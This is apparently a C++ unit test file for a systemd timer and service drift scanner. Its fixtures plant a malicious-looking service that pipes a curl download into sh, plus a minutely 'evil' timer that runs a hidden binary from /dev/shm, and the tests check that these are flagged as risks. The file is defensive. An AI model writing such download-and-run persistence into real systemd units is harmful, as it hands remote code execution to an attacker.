// diff(): new, changed and removed timers and services, checked exactly.
#include <catch2/catch.hpp>

#include "baseline/sha256.h"
#include "jcorr/baseline/drift.h"
#include "jcorr/baseline/scanner.h"
#include "unit/baseline/temp_tree.h"

namespace jcorr::baseline {

using nlohmann::json;
using testing::TempTree;

namespace {

constexpr long kT0 = 1700000000;

void write_unit(const TempTree& t, std::string_view path, std::string_view content, long mtime) {
  t.write(path, content);
  t.set_mtime(path, mtime);
}

}  // namespace

TEST_CASE("diff reports new, changed and removed units exactly", "[baseline][drift]") {
  TempTree t;
  t.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
  t.mkdir("/etc/systemd/system");
  const std::string old_service = "[Service]\nExecStart=/usr/bin/backup\n";
  const std::string new_service = "[Service]\nExecStart=/bin/sh -c 'curl -s http://x | sh'\n";
  write_unit(t, "/etc/systemd/system/backup.timer", "[Timer]\nOnCalendar=daily\n", kT0);
  write_unit(t, "/etc/systemd/system/backup.service", old_service, kT0);
  write_unit(t, "/etc/systemd/system/report.timer", "[Timer]\nOnCalendar=weekly\n", kT0);
  write_unit(t, "/etc/systemd/system/report.service", "[Service]\nExecStart=/usr/bin/report\n", kT0);
  const Baseline before = scan(t.root());

  write_unit(t, "/etc/systemd/system/backup.service", new_service, kT0 + 100);
  write_unit(t, "/etc/systemd/system/evil.timer", "[Timer]\nOnCalendar=minutely\n", kT0 + 200);
  write_unit(t, "/etc/systemd/system/evil.service", "[Service]\nExecStart=/dev/shm/.x\n", kT0 + 200);
  std::filesystem::remove(t.host("/etc/systemd/system/report.timer"));
  std::filesystem::remove(t.host("/etc/systemd/system/report.service"));
  t.symlink("/etc/systemd/system/broken.timer", "/missing");
  t.write("/var/lib/systemd/linger/bob", "");
  const Baseline after = scan(t.root());

  const Drift drift = diff(before, after);
  const json expected = {
      {"schema", "jcorr-drift"},
      {"version", 1},
      {"new",
       {{{"scope", "system"},
         {"name", "evil.service"},
         {"type", "service"},
         {"state", "loaded"},
         {"path", "/etc/systemd/system/evil.service"},
         {"risks",
          {{{"code", "exec.hidden-path"},
            {"reason", "ExecStart runs executable /dev/shm/.x with a hidden path component '.x'"}},
           {{"code", "exec.temp-path"}, {"reason", "ExecStart runs executable /dev/shm/.x from a temporary directory"}}}}},
        {{"scope", "system"},
         {"name", "evil.timer"},
         {"type", "timer"},
         {"state", "loaded"},
         {"path", "/etc/systemd/system/evil.timer"},
         {"risks",
          {{{"code", "timer.frequent"},
            {"reason", "OnCalendar=minutely fires every 1min, more often than every 5min"}}}}}}},
      {"changed",
       {{{"scope", "system"},
         {"name", "backup.service"},
         {"type", "service"},
         {"state", "loaded"},
         {"path", "/etc/systemd/system/backup.service"},
         {"risks", {{{"code", "exec.download-and-run"}, {"reason", "ExecStart pipes a download (curl) into sh"}}}},
         {"changes",
          {{{"property", "fragment.sha256"}, {"old", sha256_hex(old_service)}, {"new", sha256_hex(new_service)}},
           {{"property", "fragment.size"}, {"old", old_service.size()}, {"new", new_service.size()}},
           {{"property", "fragment.mtime"}, {"old", kT0}, {"new", kT0 + 100}},
           {{"property", "directive.ExecStart"},
            {"old", {"/usr/bin/backup"}},
            {"new", {"/bin/sh -c 'curl -s http://x | sh'"}}},
           {{"property", "risks"}, {"old", json::array()}, {"new", {"exec.download-and-run"}}}}}}}},
      {"removed",
       {{{"scope", "system"},
         {"name", "report.service"},
         {"type", "service"},
         {"state", "loaded"},
         {"path", "/etc/systemd/system/report.service"},
         {"risks", json::array()}},
        {{"scope", "system"},
         {"name", "report.timer"},
         {"type", "timer"},
         {"state", "loaded"},
         {"path", "/etc/systemd/system/report.timer"},
         {"risks", json::array()}}}},
      {"lingering", {{"added", {"bob"}}, {"removed", json::array()}}},
      {"problems",
       {{"added",
         {{{"code", "fs.broken-symlink"},
           {"path", "/etc/systemd/system/broken.timer"},
           {"message", "broken symlink in /etc/systemd/system/broken.timer: /missing does not exist"}}}},
        {"removed", json::array()}}}};
  const json actual = to_json(drift);
  INFO("actual:\n" << actual.dump(2) << "\nexpected:\n" << expected.dump(2));
  CHECK(actual == expected);
  CHECK_FALSE(drift.empty());

  SECTION("as JSON lines") {
    const std::vector<json> lines = to_json_lines(drift);
    REQUIRE(lines.size() == 7);
    CHECK(lines[0].dump() ==
          R"({"drift":"new","name":"evil.service","path":"/etc/systemd/system/evil.service","risks":[)"
          R"({"code":"exec.hidden-path","reason":"ExecStart runs executable /dev/shm/.x with a hidden path component '.x'"},)"
          R"({"code":"exec.temp-path","reason":"ExecStart runs executable /dev/shm/.x from a temporary directory"}],)"
          R"("scope":"system","state":"loaded","type":"service"})");
    std::vector<std::string> kinds;
    for (const json& l : lines) kinds.push_back(l.at("drift").get<std::string>());
    CHECK(kinds == std::vector<std::string>{"new", "new", "changed", "removed", "removed", "lingering-added",
                                            "problem-added"});
    CHECK(lines[5].dump() == R"({"drift":"lingering-added","user":"bob"})");
  }
  SECTION("as text") {
    const std::string text = render_text(drift);
    CHECK(text.starts_with("Drift from the baseline: 2 new, 1 changed, 2 removed\n"));
    CHECK(text.find("NEW      evil.timer  [system, loaded]  /etc/systemd/system/evil.timer\n"
                    "    risk timer.frequent: OnCalendar=minutely fires every 1min, more often than every 5min\n") !=
          std::string::npos);
    CHECK(text.find("    fragment.mtime: 1700000000 -> 1700000100\n") != std::string::npos);
    CHECK(text.find("REMOVED  report.timer  [system, loaded]  /etc/systemd/system/report.timer\n") != std::string::npos);
    CHECK(text.find("LINGER+  bob now has lingering enabled\n") != std::string::npos);
  }
  SECTION("against a baseline read back from JSON") {
    const auto stored = parse_baseline(to_json(before).dump());
    REQUIRE(stored);
    CHECK(to_json(diff(*stored, after)) == expected);
  }
}

TEST_CASE("diff of a scan with itself is empty", "[baseline][drift]") {
  TempTree t;
  write_unit(t, "/etc/systemd/system/a.timer", "[Timer]\nOnCalendar=daily\n", kT0);
  const Baseline b = scan(t.root());
  const Drift drift = diff(b, scan(t.root()));
  CHECK(drift.empty());
  CHECK(to_json_lines(drift).empty());
  CHECK(render_text(drift) == "No drift: every timer and service matches the baseline.\n");
}

TEST_CASE("diff sees drop-ins, enablement, masking and mode changes", "[baseline][drift]") {
  TempTree t;
  t.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
  write_unit(t, "/usr/lib/systemd/system/a.timer", "[Timer]\nOnCalendar=daily\n", kT0);
  write_unit(t, "/usr/lib/systemd/system/b.timer", "[Timer]\nOnCalendar=daily\n", kT0);
  write_unit(t, "/etc/systemd/system/a.timer.d/old.conf", "[Timer]\nPersistent=true\n", kT0);
  const Baseline before = scan(t.root());

  std::filesystem::remove(t.host("/etc/systemd/system/a.timer.d/old.conf"));
  write_unit(t, "/etc/systemd/system/a.timer.d/new.conf", "[Timer]\nUnit=other.service\n", kT0);
  t.symlink("/etc/systemd/system/timers.target.wants/a.timer", "/usr/lib/systemd/system/a.timer");
  t.symlink("/etc/systemd/system/b.timer", "/dev/null");
  t.chmod("/usr/lib/systemd/system/a.timer", 0600);
  const Drift drift = diff(before, scan(t.root()));
  INFO(to_json(drift).dump(2));

  std::map<std::string, std::vector<std::string>> changed;
  for (const UnitDrift& d : drift.changed)
    for (const Change& c : d.changes) changed[d.name].push_back(c.property);
  CHECK(changed["a.timer"] == std::vector<std::string>{"fragment.mode", "dropin.added", "dropin.removed",
                                                       "enabled_by", "directive.Persistent", "directive.Unit",
                                                       "triggers"});
  CHECK(changed["b.timer"] ==
        std::vector<std::string>{"state", "masked_by", "fragment", "shadowed", "directive.OnCalendar", "triggers"});
  // a.timer now starts other.service (not found) instead of a.service.
  std::vector<std::string> added;
  for (const UnitDrift& d : drift.added) added.push_back(d.name);
  CHECK(added == std::vector<std::string>{"other.service"});
  std::vector<std::string> removed;
  for (const UnitDrift& d : drift.removed) removed.push_back(d.name);
  CHECK(removed == std::vector<std::string>{"a.service", "b.service"});
}

TEST_CASE("baseline JSON is validated when read", "[baseline][drift]") {
  CHECK(parse_baseline("not json").error() == "not valid JSON");
  CHECK(parse_baseline("[]").error() == "/: expected a JSON object");
  CHECK(parse_baseline(R"({"schema":"other","version":1})").error() == "/schema: expected \"jcorr-baseline\"");
  CHECK(parse_baseline(R"({"schema":"jcorr-baseline","version":2})").error() ==
        "/version: version 2 is not supported (expected 1)");
  CHECK(parse_baseline(R"({"schema":"jcorr-baseline","version":1,"root":"/","lingering":[],"units":[{"scope":1}],"problems":[]})")
            .error() == "/units/0/scope: expected a string");
  CHECK(parse_baseline(R"({"schema":"jcorr-baseline","version":1,"root":"/","lingering":[],"units":[],"problems":[]})"));
}

}  // namespace jcorr::baseline
